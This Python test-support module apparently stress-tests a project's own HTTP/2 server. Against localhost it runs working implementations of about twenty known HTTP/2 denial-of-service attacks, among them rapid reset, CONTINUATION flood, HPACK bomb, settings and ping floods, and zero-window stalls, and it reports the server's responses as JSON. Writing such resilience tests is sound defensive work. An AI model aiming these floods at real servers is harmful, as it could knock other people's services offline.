"""A caller that means harm: `python -m tests.support.abuser NAME PORT SECONDS [CERTIFICATE KEY]`.

Attacks go on until the time is over, on a new connection whenever one was ended. Prints as JSON what became
of them. It runs in a process of its own, so that its work is not in anybody's latency.
"""

import contextlib
import json
import select
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator

import hpack

from tests.support.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    settings,
    u32,
)

STREAMS = 2**31 - 1
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "plain"), (":path", "/")]
LARGE = [*GET[:3], (":path", "/large")]
POST = [(":method", "POST"), *GET[1:3], (":path", "/echo")]


class Attack:
    """One connection of the abuser. It reads what comes unless told not to, and counts it."""

    def __init__(self, port: int, tls: ssl.SSLContext | None, seen: Counter[str], end: float) -> None:
        plain = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.socket = tls.wrap_socket(plain, server_hostname="weft.internal") if tls else plain
        self.socket.setblocking(False)
        self.seen = seen
        self.end = end
        self.reading = True
        self.closed = False
        self._buffer = b""
        self._encoder = hpack.Encoder()
        self.sid = -1
        seen["connections"] += 1

    def block(self, fields: list[tuple[str, str]]) -> bytes:
        return bytes(self._encoder.encode(fields))

    def headers(self, fields: list[tuple[str, str]], flags: int = END_HEADERS | END_STREAM) -> bytes:
        """A request on the next stream."""
        return self.opening(self.block(fields), flags)

    def opening(self, block: bytes, flags: int = END_HEADERS | END_STREAM) -> bytes:
        self.sid += 2
        return frame(HEADERS, flags, self.sid, block)

    def go_on(self) -> bool:
        return not self.closed and time.monotonic() < self.end

    def send(self, data: bytes) -> bool:
        """All of it, unless the connection or the time ends before."""
        view = memoryview(data)
        while view and self.go_on():
            try:
                view = view[self.socket.send(view) :]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.socket] if self.reading else [], [self.socket], [], 0.02)
            except OSError:
                self.closed = True
            if self.reading:
                self.read()
        return self.go_on()

    def wait(self, seconds: float) -> bool:
        until = min(self.end, time.monotonic() + seconds)
        while not self.closed and (left := until - time.monotonic()) > 0:
            select.select([self.socket] if self.reading else [], [], [], min(left, 0.05))
            if self.reading:
                self.read()
        return self.go_on()

    def read(self) -> None:
        try:
            data = self.socket.recv(262_144)
            self.closed = self.closed or not data
            self._buffer += data
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self.closed = True
            return
        at = 0
        while len(self._buffer) - at >= 9:
            size = int.from_bytes(self._buffer[at : at + 3], "big")
            if len(self._buffer) - at < 9 + size:
                break
            kind, payload = self._buffer[at + 3], self._buffer[at + 9 : at + 9 + size]
            if kind == GOAWAY:
                self.seen[f"goaway {int.from_bytes(payload[4:8], 'big')}"] += 1
            elif kind == RST_STREAM:
                self.seen[f"reset {int.from_bytes(payload, 'big')}"] += 1
            at += 9 + size
        self._buffer = self._buffer[at:]

    def close(self) -> None:
        self.seen["ended by the other side"] += self.closed
        with contextlib.suppress(OSError):
            self.socket.close()


def repeat(attack: Attack, batch: Callable[[], bytes], pause_s: float = 0.0) -> None:
    while attack.send(batch()) and (not pause_s or attack.wait(pause_s)):
        pass


# --- floods ------------------------------------------------------------------------------------------


def rapid_reset(attack: Attack) -> None:
    """CVE-2023-44487: requests that are cancelled at once."""
    repeat(
        attack,
        lambda: b"".join(attack.headers(GET) + frame(RST_STREAM, 0, attack.sid, u32(8)) for _ in range(100)),
    )


def made_you_reset(attack: Attack) -> None:
    """CVE-2025-8671: sound requests, then something that makes the server cancel them."""
    zero = lambda sid: frame(WINDOW_UPDATE, 0, sid, u32(0))  # noqa: E731
    repeat(attack, lambda: b"".join(attack.headers(LARGE) + zero(attack.sid) for _ in range(100)))


def reset_flood(attack: Attack) -> None:
    """CVE-2019-9514: requests that cannot but be refused."""
    repeat(attack, lambda: b"".join(attack.headers([*GET, ("connection", "x")]) for _ in range(100)))


def zero_length_headers(attack: Attack) -> None:
    """CVE-2019-9516: fields of no name and no value, to be stored."""
    repeat(
        attack,
        lambda: b"".join(attack.opening(attack.block(GET) + b"\x40\x00\x00" * 100) for _ in range(50)),
    )


def continuation_flood(attack: Attack) -> None:
    """CVE-2024-27316: a header block that never ends."""
    attack.send(frame(HEADERS, END_STREAM, 1, attack.block(GET)))
    repeat(attack, lambda: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 20) * 50)


def ping_flood(attack: Attack) -> None:
    """CVE-2019-9512."""
    repeat(attack, lambda: frame(PING, 0, 0, b"12345678") * 500)


def settings_flood(attack: Attack) -> None:
    """CVE-2019-9515."""
    repeat(attack, lambda: settings((4, 65_535)) * 500)


def settings_series(attack: Attack) -> None:
    """CVE-2019-9515, its dear form: frames of 2,700 windows over two thousand streams."""
    attack.send(b"".join(attack.headers(LARGE) for _ in range(2000)))
    repeat(attack, lambda: settings(*((4, number % 2) for number in range(2700))))


def priority_loop(attack: Attack) -> None:
    """CVE-2019-9513: the tree of priorities, turned over again and again."""
    repeat(
        attack,
        lambda: b"".join(frame(PRIORITY, 0, 2 * sid + 1, u32(2 * sid + 3) + b"x") for sid in range(300)),
    )


def empty_frames(attack: Attack) -> None:
    """CVE-2019-9518: DATA that says nothing, and never ends."""
    attack.send(attack.headers(POST, END_HEADERS))
    repeat(attack, lambda: frame(DATA, 0, 1) * 500)


# --- memory ------------------------------------------------------------------------------------------


def data_dribble(attack: Attack) -> None:
    """CVE-2019-9511: large answers, asked for octet by octet."""
    attack.send(settings((4, 0)) + b"".join(attack.headers(LARGE) for _ in range(200)))
    repeat(attack, lambda: b"".join(frame(WINDOW_UPDATE, 0, 2 * n + 1, u32(1)) for n in range(200)))


def dribbled_uploads(attack: Attack) -> None:
    """CVE-2019-9511 the other way: uploads in frames of an octet."""
    attack.send(b"".join(attack.headers(POST, END_HEADERS) for _ in range(50)))
    for _ in range(600):
        octets = b"".join(frame(DATA, 0, 2 * n + 1, b"x") for n in range(50))
        if not attack.send(octets):
            return
    attack.wait(10)


def internal_data_buffering(attack: Attack) -> None:
    """CVE-2019-9517: every window open, and nothing read of the socket."""
    attack.reading = False
    attack.send(settings((4, STREAMS)) + frame(WINDOW_UPDATE, 0, 0, u32(2**30)))
    attack.send(b"".join(attack.headers(LARGE) for _ in range(300)))
    attack.wait(10)


def zero_window(attack: Attack) -> None:
    """Answers that may not be sent, as many as streams."""
    attack.send(settings((4, 0)) + b"".join(attack.headers(LARGE) for _ in range(1500)))
    attack.wait(10)


def huge_headers(attack: Attack) -> None:
    """Lists of 60 KiB, none like another, of requests that stay open."""
    for number in range(500):
        block = attack.block([*POST, *((f"x-{number}-{at}", "v" * 7000) for at in range(2))])
        if not attack.send(attack.opening(block[:16_000], END_HEADERS)):
            return
    attack.wait(10)


def hpack_bomb(attack: Attack) -> None:
    """A few octets that mean 60 KiB each, of requests that stay open."""
    fields = [*POST, *[("x-bomb", "v" * 3500)] * 16]
    repeat(attack, lambda: b"".join(attack.headers(fields, END_HEADERS) for _ in range(100)), 0.05)


def slow_headers(attack: Attack) -> None:
    """A header block, an octet at a time."""
    attack.send(frame(HEADERS, 0, 1, b"\x82"))
    repeat(attack, lambda: frame(CONTINUATION, 0, 1, b"\x82"), 0.02)


def slow_preface(attack: Attack) -> None:
    """Connections that say nothing more; the main loop opens many."""
    attack.wait(0.02)


# --- what the RFC forbids ----------------------------------------------------------------------------


def window_overflow(attack: Attack) -> None:
    """Windows over 2^31-1."""
    repeat(attack, lambda: frame(WINDOW_UPDATE, 0, 0, u32(STREAMS)))


def stream_exhaustion(attack: Attack) -> None:
    """The last stream id, and then others."""
    attack.sid = STREAMS - 2
    attack.send(attack.headers(GET))
    attack.sid = 1
    repeat(attack, lambda: attack.headers(GET), 0.02)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, made_you_reset, reset_flood, zero_length_headers, continuation_flood, ping_flood,
        settings_flood, settings_series, priority_loop, empty_frames, data_dribble, dribbled_uploads,
        internal_data_buffering, zero_window, huge_headers, hpack_bomb, slow_headers, slow_preface,
        window_overflow, stream_exhaustion,
    )
}  # fmt: skip
PARALLEL = {"slow_preface": 400, "slow_headers": 1, "huge_headers": 1}


def connections(port: int, tls: ssl.SSLContext | None, seen: Counter[str], end: float) -> Iterator[Attack]:
    while time.monotonic() < end:
        try:
            yield Attack(port, tls, seen, end)
        except OSError:
            seen["not let in"] += 1
            time.sleep(0.02)


def main() -> None:
    name, port, seconds, *files = sys.argv[1:]
    tls = None
    if files:
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        tls.minimum_version = ssl.TLSVersion.TLSv1_3
        tls.set_alpn_protocols(["h2"])
        tls.load_cert_chain(*files)
    seen: Counter[str] = Counter()
    kept: list[Attack] = []
    for attack in connections(int(port), tls, seen, time.monotonic() + float(seconds)):
        if name != "slow_preface":
            attack.send(PREFACE + settings() + frame(SETTINGS, 1))
        else:
            attack.send(PREFACE[:20])
        ATTACKS[name](attack)
        kept.append(attack)
        if len(kept) >= PARALLEL.get(name, 1):
            kept.pop(0).close()
    for attack in kept:
        attack.close()
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
